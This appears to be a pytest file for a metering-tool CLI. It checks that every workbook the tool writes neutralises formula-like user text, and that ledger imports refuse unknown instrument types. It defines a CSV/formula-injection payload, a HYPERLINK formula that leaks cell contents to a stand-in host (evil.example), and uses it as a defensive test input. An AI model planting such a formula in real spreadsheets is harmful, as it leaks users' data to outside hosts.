"""Issue 18: no live formula from user text in any workbook the system writes, and a ledger
import never writes a unit file that no longer loads (unknown instrument types)."""

from __future__ import annotations

import re
from pathlib import Path

from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from tanjiliang.cli.app import app
from tanjiliang.model.load import load_unit
from tanjiliang.model.xlsx import formula_like, neutralise, safe_row, save_workbook, workbook_bytes

SPEC = Path(__file__).parent.parent / "data" / "spec-example.yaml"
SRC = Path(__file__).parents[2] / "src" / "tanjiliang"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def _cells(path: Path) -> list:
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _no_live_formula(path: Path) -> None:
    for c in _cells(path):
        assert c.data_type != "f", (c.coordinate, c.value)
        if formula_like(c.value):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


def test_helpers_keep_the_text_and_make_it_inert(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append([EVIL, "+1+1", "@SUM(A1)", "-2+3", "普通文字", -5, 3.5])
    assert neutralise(wb) == 4
    f = save_workbook(wb, tmp_path / "a.xlsx")
    _no_live_formula(f)
    assert [c.value for c in _cells(f)][:4] == [EVIL, "+1+1", "@SUM(A1)", "-2+3"]  # unchanged text
    wo = Workbook(write_only=True)
    sheet = wo.create_sheet("x")
    sheet.append(safe_row(sheet, [EVIL, "ok", 1]))
    (tmp_path / "b.xlsx").write_bytes(workbook_bytes(wo))
    _no_live_formula(tmp_path / "b.xlsx")


def _evil_unit(tmp_path: Path) -> Path:
    text = SPEC.read_text(encoding="utf-8")
    text = text.replace("河南豫能示例热电有限公司", f"'{EVIL}'", 1).replace("入厂煤电子轨道衡", "'=1+1'", 1)
    f = tmp_path / "u.yaml"
    f.write_text(text, encoding="utf-8")
    assert load_unit(f).unit.name == EVIL
    return f


def test_assessment_xlsx_and_ledger_export_hold_no_formula(tmp_path):
    f = _evil_unit(tmp_path)
    r = CliRunner().invoke(app, ["check", str(f), "-o", str(tmp_path / "assessment.xlsx")])
    assert r.exit_code in (0, 1), r.output
    _no_live_formula(tmp_path / "assessment.xlsx")
    assert any(c.value == EVIL or EVIL in str(c.value) for c in _cells(tmp_path / "assessment.xlsx"))
    r = CliRunner().invoke(app, ["ledger", "export", str(f), "-o", str(tmp_path / "ledger.xlsx")])
    assert r.exit_code == 0, r.output
    _no_live_formula(tmp_path / "ledger.xlsx")


def test_data_flagged_xlsx_holds_no_formula(tmp_path):
    plant = Path(__file__).parents[1] / "data" / "fixtures" / "plant.yaml"
    rows = "\n".join(f"W-01,2025-01-{d:02d},{v}" for d, v in ((1, 1), (2, 1), (3, -5)))
    csv = tmp_path / "r.csv"
    csv.write_text("instrument,time,value\n" + rows + f"\n{EVIL.replace(',', ' ')},2025-01-04,1\n")
    out = tmp_path / "flagged.xlsx"
    r = CliRunner().invoke(app, ["data", "check", str(plant), str(csv), "--flagged", str(out)])
    assert r.exit_code in (0, 1), r.output
    _no_live_formula(out)


def test_every_workbook_is_saved_through_the_helper():
    """A workbook saved anywhere else could carry a live formula again."""
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "model/xlsx.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" not in text:
            continue
        for n, line in enumerate(text.splitlines(), 1):
            if re.search(r"\b(wb|workbook|build_workbook\([^)]*\))\.save\(", line):
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert not offenders, "\n".join(offenders)


def test_ledger_import_refuses_a_type_the_pack_does_not_define(tmp_path):
    f = tmp_path / "u.yaml"
    f.write_bytes(SPEC.read_bytes())
    ledger = tmp_path / "l.xlsx"
    assert CliRunner().invoke(app, ["ledger", "export", str(f), "-o", str(ledger)]).exit_code == 0
    wb = load_workbook(ledger)
    ws = wb.worksheets[0]
    col = next(c.column for c in ws[1] if c.value and "Type" in c.value)
    ws.cell(2, col).value = "quantum_flux_meter"
    wb.save(ledger)
    before = f.read_bytes()
    r = CliRunner().invoke(app, ["ledger", "import", str(f), str(ledger), "--drop-comments"])
    assert r.exit_code == 2, r.output
    assert "quantum_flux_meter" in r.output and "器具类型" in r.output
    assert f.read_bytes() == before  # nothing written
    load_unit(f)
